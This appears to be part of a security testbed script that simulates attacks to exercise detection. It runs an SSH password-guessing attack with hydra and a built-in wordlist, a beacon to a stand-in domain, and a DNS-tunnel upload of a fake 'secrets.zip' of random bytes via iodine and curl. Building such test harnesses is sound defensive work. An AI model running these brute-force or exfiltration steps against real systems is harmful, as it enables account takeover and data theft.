# The attacks more than one scenario plays. Each has a source address of its own.

write_guesses() { # 80 usual passwords, then the right one
  printf '%s\n' 123456 password admin letmein qwerty welcome monkey dragon master login abc123 \
    starwars passw0rd shadow 654321 superman michael football trustno1 iloveyou >"$work/guesses"
  for word in deploy backup server office Welcome1 Summer; do
    for tail in '' 1 12 123 2024 2025 2026 '!' '1!' '#1'; do echo "$word$tail"; done
  done >>"$work/guesses"
  echo 'Autumn-2026!' >>"$work/guesses"
}

guess_passwords() {
  write_guesses
  inside guesser hydra -I -t 4 -w 4 -f -l deploy -P "$work/guesses" ssh://192.0.2.22 >"$work/hydra.log" 2>&1 || true
  grep 'valid password found' "$work/hydra.log" || {
    echo "testbed: hydra did not get through (is the machine busy?):" >&2
    cat "$work/hydra.log" >&2
    exit 1
  }
}

call_home() { # HOST SECONDS
  inside "$1" python3 "$testbed/lib/beacon.py" telemetry-sync.example 5 0.1 "$2"
}

carry_out_file() { # BYTES: sends that much noise over HTTP through the tunnel's own network
  local server client sink
  launch tunnel iodined -f -c -P testbed-secret 10.99.0.1/27 cdn-metrics.example >"$work/iodined.log" 2>&1
  server=$!
  launch files iodine -f -r -P testbed-secret 10.20.20.53 cdn-metrics.example >"$work/iodine.log" 2>&1
  client=$!
  launch tunnel python3 "$testbed/lib/sink.py" 9000 2>"$work/sink.log"
  sink=$!
  for ((i = 0; i < 60; i++)); do
    grep -q 'Connection setup complete' "$work/iodine.log" && break
    sleep 0.5
  done
  head -c "$1" /dev/urandom >"$work/secrets.zip"
  inside files curl -sS --max-time 150 -T "$work/secrets.zip" http://10.99.0.1:9000/
  kill "$client" "$sink"
  sleep 1
  kill "$server"
}
